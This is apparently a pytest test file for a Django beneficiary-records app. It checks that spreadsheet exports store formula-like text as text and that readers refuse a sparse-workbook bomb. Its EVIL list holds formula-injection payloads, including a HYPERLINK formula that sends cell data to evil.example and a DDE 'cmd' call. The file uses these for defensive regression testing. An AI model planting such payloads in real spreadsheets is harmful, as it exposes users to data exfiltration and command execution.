"""Every xlsx the product writes stores outside text as text, never a formula (issue 9, finding 5),
and every reader refuses a hostile workbook before it allocates (finding 4)."""

import io
import multiprocessing
import signal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from yfbz.core.spreadsheets import SafeWorkbook, SpreadsheetRefused, check_spreadsheet, write_xlsx

from .hostile_files import sparse_bomb

pytestmark = pytest.mark.django_db
EVIL = ['=HYPERLINK("http://evil.example/?d="&A2,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]


def cells(data: bytes):
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(c.value, c.data_type) for row in ws.iter_rows() for c in row]


def test_the_writer_stores_formula_like_text_as_text():
    got = cells(write_xlsx("t", ["姓名"], [[e] for e in EVIL] + [[12.5]]))
    assert [dt for v, dt in got[1:-1]] == ["s"] * len(EVIL)
    assert [v for v, _ in got[1:-1]] == EVIL  # the text itself is kept
    assert got[-1] == (12.5, "n")
    wb = SafeWorkbook()
    wb.create_sheet("a").append(["=1+1"])
    assert cells(wb.to_bytes()) == [("=1+1", "s")]


def test_the_people_export_shows_a_hostile_name_as_text(make_person, staff, login):
    make_person(EVIL[0], town="SLH")
    resp = login(staff["district_clerk"]).get(reverse("beneficiaries:person-export"))
    got = cells(resp.content)
    assert (EVIL[0], "s") in got
    assert not any(dt == "f" for _, dt in got)


def test_the_roster_error_file_shows_hostile_cells_as_text(upload_file, staff, login):
    from tests.beneficiaries.conftest import roster_csv

    up = upload_file(roster_csv([("123", EVIL[1], "低保", "双龙湖", "", "")]), name="roster.csv").upload
    resp = login(staff["civil_officer"]).get(reverse("beneficiaries:roster-issues", args=[up.pk]))
    got = cells(resp.content)
    assert (EVIL[1], "s") in got, str(got)
    assert not any(dt == "f" for _, dt in got)


def test_no_module_writes_an_xlsx_without_the_safe_writer():
    from django.conf import settings

    offenders = []
    for app in ("beneficiaries", "claims", "funding", "yfbz"):
        for path in Path(settings.BASE_DIR, app).rglob("*.py"):
            if "migrations" in path.parts or path.name in ("spreadsheets.py", "demo.py"):
                continue
            if "Workbook(" in path.read_text() and "SafeWorkbook(" not in path.read_text():
                offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == [], f"write xlsx through yfbz.core.spreadsheets (SafeWorkbook/write_xlsx): {offenders}"


def _read_roster(data, queue):
    from beneficiaries.rosters.reading import RosterUnreadable, open_roster

    try:
        open_roster(data)
        queue.put("read")
    except RosterUnreadable as exc:
        queue.put(f"refused: {exc}")


def test_the_17_kb_sparse_bomb_is_refused_and_never_kills_the_process():
    """On main the reader allocated ~512 GiB and the process died of SIGABRT (a worker every ~5 s)."""
    data = sparse_bomb()
    assert len(data) < 2048
    ctx = multiprocessing.get_context("spawn")
    queue = ctx.Queue()
    proc = ctx.Process(target=_read_roster, args=(data, queue))
    proc.start()
    proc.join(120)
    assert proc.exitcode == 0, f"the reader died (exit {proc.exitcode}; SIGABRT is {-signal.SIGABRT})"
    assert queue.get(timeout=5).startswith("refused: 工作表（声明的范围）有16,384列")


def test_the_check_names_rows_and_columns_in_chinese():
    with pytest.raises(SpreadsheetRefused, match="超过上限200列"):
        check_spreadsheet(sparse_bomb())
    with pytest.raises(SpreadsheetRefused, match="行"):
        check_spreadsheet(("a,b\n" * 1_100_002).encode())
    with pytest.raises(SpreadsheetRefused, match="旧版Excel"):
        check_spreadsheet(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
